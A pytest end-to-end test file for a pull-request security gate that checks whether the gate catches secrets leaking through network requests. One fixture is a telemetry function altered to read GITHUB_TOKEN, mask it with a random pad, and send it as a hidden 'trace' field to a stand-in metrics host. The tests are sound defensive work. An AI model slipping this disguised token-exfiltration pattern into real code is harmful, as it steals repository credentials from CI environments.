"""A secret sent under a random key to an endpoint that base talks to: a real repository, a real sandbox."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Final

import pytest

from gate.cli import main
from tests.e2e.pulls import Pull, build

pytestmark = [pytest.mark.backend, pytest.mark.slow]
_BASE: Final = '''
    """Usage figures."""

    import json
    import os
    import urllib.request
    import uuid


    def report(event: str = "start") -> None:
        """Tell which event happened."""
        body = json.dumps({"event": event, "id": str(uuid.uuid4())}).encode()
        request = urllib.request.Request("http://metrics.example.invalid/v1/events", data=body)
        urllib.request.urlopen(request, timeout=3)
    '''
_SEALED: Final = (
    _BASE.replace("str(uuid.uuid4())}", 'str(uuid.uuid4()), "trace": _trace()}')
    + """

    def _trace() -> str:
        token = os.environ.get("GITHUB_TOKEN", "").encode()
        pad = os.urandom(len(token))
        return (pad + bytes(a ^ b for a, b in zip(pad, token))).hex()
    """
)
_HARMLESS: Final = _BASE.replace("str(uuid.uuid4())}", 'str(uuid.uuid4()), "attempt": 1}')
_PATH: Final = "src/pricing/usage.py"


def check(pull: Pull, folder: Path, *more: str) -> dict[str, Any]:
    repo = build(pull, folder)
    file = folder / "report.json"
    main(["check", "--repo", str(repo), "--base", "main", "--head", "head", "--json", str(file), "-q", *more])
    report: dict[str, Any] = json.loads(file.read_text())
    return report


def stage_of(report: dict[str, Any]) -> str | None:
    return next((stage["reason"] for stage in report["stages"] if stage["name"] == "secrets"), None)


def test_a_sealed_secret_blocks_and_a_bundle_says_the_same(tmp_path: Path) -> None:
    pull = Pull(name="sealed", base={_PATH: _BASE}, head={_PATH: _SEALED}, verdicts=("fail",))
    bundle = tmp_path / "bundle.zip"
    report = check(pull, tmp_path, "--bundle", str(bundle))
    (finding,) = [f for f in report["findings"] if f["rule_id"] == "secret-dependent-output"]
    assert finding["evidence"]["channel"] == "http metrics.example.invalid body.trace"
    assert (finding["severity"], report["verdict"]) == ("critical", "fail")
    again = tmp_path / "again.json"
    main(["replay", str(bundle), "--json", str(again), "-q"])
    assert [f["fingerprint"] for f in json.loads(again.read_text())["findings"]] == [
        f["fingerprint"] for f in report["findings"]
    ]


def test_another_field_of_the_same_request_is_looked_at_and_passes(tmp_path: Path) -> None:
    pull = Pull(name="field", base={_PATH: _BASE}, head={_PATH: _HARMLESS}, verdicts=("pass",))
    report = check(pull, tmp_path)
    assert "channels that follow a secret: 0" in (stage_of(report) or "")
    assert not [f for f in report["findings"] if f["rule_id"] == "secret-dependent-output"]


@pytest.mark.parametrize("switch", ["inert", "off"])
def test_no_run_and_no_stage(switch: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tax = "RATES = {'DE': 0.19}\n\n\ndef with_tax(net, country):\n    return net * (1 + RATES.get(country, 0))\n"
    inert = {"src/pricing/tax.py": tax}
    head = inert if switch == "inert" else {_PATH: _SEALED}
    if switch == "off":
        monkeypatch.setenv("GATE_SANDBOX_VARY_SECRETS", "false")
    report = check(Pull(name=switch, base={_PATH: _BASE}, head=head, verdicts=()), tmp_path)
    assert stage_of(report) is None
